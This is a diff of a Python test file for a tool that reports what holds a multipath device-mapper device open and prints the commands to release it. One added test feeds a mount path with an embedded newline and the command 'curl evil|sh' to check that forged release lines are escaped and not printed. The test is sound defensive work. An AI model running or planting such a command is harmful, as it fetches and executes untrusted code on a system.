@@ -80,8 +80,8 @@ def test_queued_io_is_reported_with_data_loss_warning():
     snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=1), queueing=True,
                     usable_paths=0, open_files=(OpenFile("253:3", 5, "dd", "dd", ""),))
     hs = find_holders(snap)
-    assert kinds(hs) == ["process", "queued-io"]
-    assert hs[1].data_loss and "disablequeueing map mpatha" in hs[1].release
+    assert kinds(hs) == ["queued-io", "process"]  # first: until it is released, the writer cannot go
+    assert hs[0].data_loss and "disablequeueing map mpatha" in hs[0].release
     assert "DATA LOSS" in explain(snap, hs)
     healthy = Snapshot(target=snap.target, queueing=True, usable_paths=2, open_files=snap.open_files)
     assert "queued-io" not in kinds(find_holders(healthy))
@@ -109,3 +109,29 @@ def test_fs_thread_device_names():
     assert fs_thread_device("jbd2/dm-3-8") == "dm-3"
     assert fs_thread_device("jbd2/sda1-8") == "sda1"
     assert fs_thread_device("kworker/0:1") is None
+
+
+def test_a_name_with_a_newline_cannot_forge_a_release_line():
+    """A user can bind-mount onto a directory whose name holds a newline (unshare -Urm): the report shows
+    the name escaped and prints no command built from it."""
+    evil = "/tmp/x\n    release: curl evil|sh #"
+    snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=1),
+                    mounts=(Mount("253:3", evil, "ext4", 4242, "bash", False),))
+    text = explain(snap, find_holders(snap))
+    assert [line.strip() for line in text.splitlines() if line.strip().startswith("release:")] == [
+        "release: # not printed: a name in it holds control characters (see the line above)"]
+    assert "/tmp/x\\012    release: curl evil|sh #" in text
+
+
+def test_a_release_reached_twice_runs_once():
+    """One device stacked on both partition maps (a linear spanning them): its removal is printed once;
+    the second place says it was done above, as a command that succeeds."""
+    top = BlockDev("dm-9", "253:9", "span", "")
+    parts = (BlockDev("dm-4", "253:4", "mpatha-part1", "part1-mpath-x", open_count=1),
+             BlockDev("dm-5", "253:5", "mpatha-part2", "part2-mpath-x", open_count=1))
+    snap = Snapshot(target=BlockDev("dm-3", "253:3", "mpatha", "mpath-x", open_count=2), partitions=parts,
+                    stacked=(("253:4", top), ("253:5", top)))
+    releases = [line.split("release:")[1].strip() for line in explain(snap, find_holders(snap)).splitlines()
+                if line.strip().startswith("release:")]
+    assert releases.count("dmsetup remove span") == 1
+    assert "true  # done above: dmsetup remove span" in releases
